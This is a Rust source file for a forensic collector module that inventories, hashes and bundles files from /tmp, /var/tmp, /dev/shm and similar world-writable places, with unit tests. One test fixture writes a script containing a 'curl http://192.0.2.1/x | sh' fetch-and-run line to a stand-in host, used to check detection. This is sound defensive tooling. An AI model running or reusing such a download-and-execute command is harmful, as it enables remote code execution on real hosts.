//! Files where everybody may write: `/tmp`, `/var/tmp`, `/dev/shm`, `/run/shm`, the runtime folders of users, and what is
//! no device below `/dev`. Malware is unpacked and run here, and data waits here to be taken away.
//!
//! Rows: `temp_file`, one for each object, folders and FIFOs included (which are never opened). Programs, scripts and
//! what is short go into the bundle as well.

use bundle::item::{Kind, Status};
use schemars::JsonSchema;
use serde::Deserialize;
use wire::{ByteSize, Tier};

use super::rows::RowType;
use super::{Collect, Failure, Plan};
use crate::files::copy::Copier;
use crate::files::file_row::{FileRow, Look};
use crate::files::gather::Request;
use crate::files::since::Since;
use crate::host::Host;
use crate::host::glob::Glob;
use crate::host::meta::Type;
use crate::run::session::{Session, Stopped};

/// The first of [`PATHS`] that names devices, of which only what is no device is wanted.
const DEV: u32 = 5;
const PATHS: [&str; 6] = ["/tmp/**", "/var/tmp/**", "/dev/shm/**", "/run/shm/**", "/run/user/**", "/dev/**"];
/// Rows when nothing is said.
const FILES_MAX: u64 = 200_000;
/// Content of files of at most this many bytes goes into the bundle.
const CONTENT_BYTES_MAX: u64 = 1 << 20;
/// The same for programs and scripts.
const PROGRAM_BYTES_MAX: u64 = 64 << 20;
/// All content together, programs apart.
const CONTENT_BYTES_SUM_MAX: u64 = 1 << 30;
/// Files of at most this many bytes are digested.
const DIGEST_BYTES_MAX: u64 = 256 << 20;

/// Arguments of `collect: temp_files`.
#[derive(Debug, Default, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct TempFiles {
    /// What to leave out, with all below it.
    #[serde(default)]
    exclude: Vec<Glob>,
    /// Only what changed at this moment or later.
    #[serde(default)]
    changed_since: Option<Since>,
    /// Files of at most this many bytes go into the bundle: 1 MiB when nothing is said; 0 for none.
    #[serde(default)]
    content_bytes_max: Option<ByteSize>,
    /// Programs and scripts of at most this many bytes go into the bundle: 64 MiB when nothing is said.
    #[serde(default)]
    program_bytes_max: Option<ByteSize>,
    /// Files of at most this many bytes are digested: 256 MiB when nothing is said.
    #[serde(default)]
    digest_bytes_max: Option<ByteSize>,
    /// The most rows: 200,000 when nothing is said.
    #[serde(default)]
    files_max: Option<u64>,
}

impl TempFiles {
    fn with_request<T>(&self, with: impl FnOnce(Request<'_>) -> T) -> T {
        let paths = Glob::table(&PATHS);
        with(Request { exclude: &self.exclude, changed_since: self.changed_since, ..Request::of(&paths) })
    }
}

impl Collect for TempFiles {
    const NAME: &'static str = "temp_files";
    const TIER: Tier = Tier::Files;
    const SUMMARY: &'static str =
        "What lies in /tmp, /var/tmp, /dev/shm and runtime folders: facts, digests, programs.";
    const NEEDS: &'static [&'static str] = &["CAP_DAC_READ_SEARCH", "CAP_SYS_ADMIN"];

    fn collect(&self, session: &mut Session) -> Result<(), Failure> {
        let bytes = |size: Option<ByteSize>, usual| size.map_or(usual, |size| size.0);
        let content_bytes_max = bytes(self.content_bytes_max, CONTENT_BYTES_MAX);
        let program_bytes_max = bytes(self.program_bytes_max, PROGRAM_BYTES_MAX);
        let digest_bytes_max = bytes(self.digest_bytes_max, DIGEST_BYTES_MAX);
        let mut copier = Copier::new(session, None);
        let mut content_bytes_left = CONTENT_BYTES_SUM_MAX;
        let mut is_limit_told = false;
        let mut rows = Rows { left: self.files_max.unwrap_or(FILES_MAX), is_limit_told: false };
        self.with_request(|request| {
            request.each(session, |session, entry, asked| {
                let is_device = matches!(entry.file_type(), Type::Char | Type::Block | Type::Link | Type::Folder);
                let is_hidden = entry.name.to_bytes().starts_with(b".");
                let is_of_dev = asked.iter().all(|number| *number == DEV);
                if asked.is_empty() || (is_of_dev && is_device && !is_hidden) || !rows.take(session)? {
                    return Ok(());
                }
                let mut row = FileRow::of("temp_file", entry);
                row.look(session, entry, Look { digest_bytes_max, is_text_searched: false })?;
                session.row(&row)?;
                let is_wanted = match row.file_type {
                    "file" if row.is_program() => row.size_bytes <= program_bytes_max.max(content_bytes_max),
                    "file" => row.size_bytes <= content_bytes_max && content_bytes_max > 0,
                    _ => false,
                };
                if is_wanted && !row.is_program() {
                    if row.size_bytes > content_bytes_left {
                        if !std::mem::replace(&mut is_limit_told, true) {
                            session.limited("content of 1 GiB is taken: of the rest only programs and rows")?;
                        }
                        return Ok(());
                    }
                    content_bytes_left -= row.size_bytes;
                }
                if is_wanted {
                    return copier.hand_over(session, entry);
                }
                if row.file_type == "file" && row.is_program() {
                    let item = session.item(Kind::File, entry.path, "stat", Status::Skipped);
                    session.note(item.because("longer than program_bytes_max: only a row"))?;
                }
                Ok(())
            })
        })
    }

    fn rows() -> Vec<RowType> {
        vec![RowType::of::<FileRow>("temp_file", "statx(2), execve(2), elf(5), hier(7)")]
    }

    fn plan(&self, host: &Host) -> Plan {
        self.with_request(|request| request.plan(host))
    }
}

/// How many rows may still come.
pub(super) struct Rows {
    pub(super) left: u64,
    pub(super) is_limit_told: bool,
}

impl Rows {
    /// True when one more may come; told once when not.
    pub(super) fn take(&mut self, session: &mut Session) -> Result<bool, Stopped> {
        if self.left > 0 {
            self.left -= 1;
            return Ok(true);
        }
        if !std::mem::replace(&mut self.is_limit_told, true) {
            session.limited("files_max is reached: further files are left out")?;
        }
        Ok(false)
    }
}

#[cfg(test)]
mod tests {
    use std::os::unix::ffi::OsStrExt as _;
    use std::os::unix::fs::PermissionsExt as _;
    use std::path::Path;
    use std::sync::Arc;

    use super::*;
    use crate::host::FixedClock;
    use crate::run::session::Message;
    use crate::run::testing::{assert_keys_sorted, collect, rows};

    fn run(root: &Path, with: serde_json::Value) -> Vec<Message> {
        let step: TempFiles = serde_json::from_value(with).unwrap();
        collect(&step, Arc::new(Host::at(root, FixedClock(bundle::time::Instant(0)))))
    }

    fn tree() -> tempfile::TempDir {
        let root = tempfile::tempdir().unwrap();
        let tmp = root.path().join("tmp/.fx");
        std::fs::create_dir_all(&tmp).unwrap();
        std::fs::create_dir_all(root.path().join("dev/shm")).unwrap();
        std::fs::write(tmp.join(".suid"), b"\x7fELF\x02\x01\x01").unwrap();
        std::fs::set_permissions(tmp.join(".suid"), std::fs::Permissions::from_mode(0o4755)).unwrap();
        std::fs::write(tmp.join("run.txt"), b"#!/bin/sh\ncurl http://192.0.2.1/x | sh\n").unwrap();
        std::fs::write(tmp.join(std::ffi::OsStr::from_bytes(b"bad\xff")), b"x").unwrap();
        std::fs::write(root.path().join("dev/.hidden"), b"x").unwrap();
        std::fs::write(root.path().join("dev/shm/x"), b"x").unwrap();
        rustix::fs::mkfifoat(rustix::fs::CWD, tmp.join("trap.fifo"), rustix::fs::Mode::RUSR).unwrap();
        let sparse = std::fs::File::create(tmp.join("sparse.img")).unwrap();
        sparse.set_len(1 << 40).unwrap();
        root
    }

    #[test]
    fn what_lies_there_is_told_and_programs_are_taken() {
        let root = tree();
        let messages = run(root.path(), serde_json::json!({}));
        assert_keys_sorted(&messages);
        let rows = rows(&messages);
        let of = |path: &str| rows.iter().find(|row| row["path"] == path).unwrap_or_else(|| panic!("{path}: {rows:?}"));
        let suid = of("/tmp/.fx/.suid");
        assert_eq!(
            (&suid["mode"], &suid["magic"], &suid["is_setuid"]),
            (&"0104755".into(), &"elf".into(), &true.into())
        );
        assert_eq!(suid["sha256"].as_str().map(str::len), Some(64));
        let script = of("/tmp/.fx/run.txt");
        assert_eq!((&script["interpreter"], &script["tokens"]), (&"/bin/sh".into(), &serde_json::json!(["curl"])));
        assert_eq!((&of("/tmp/.fx/trap.fifo")["type"], of("/tmp/.fx/trap.fifo").get("sha256")), (&"fifo".into(), None));
        let sparse = of("/tmp/.fx/sparse.img");
        assert_eq!((sparse["size_bytes"].as_u64(), sparse.get("sha256")), (Some(1 << 40), None));
        assert!(rows.iter().any(|row| row["is_oddly_named"] == true && row["path_b64"].is_string()));
        assert_eq!(of("/dev/.hidden")["type"], "file");
        let taken = messages.iter().filter(|message| matches!(message, Message::Whole(..))).count();
        assert_eq!(taken, 5);
    }

    #[test]
    fn limits_leave_out() {
        let root = tree();
        let messages = run(root.path(), serde_json::json!({"files_max": 2, "content_bytes_max": "0"}));
        assert_eq!(rows(&messages).len(), 2);
        assert_eq!(messages.iter().filter(|message| matches!(message, Message::Limited(_))).count(), 1);
    }
}
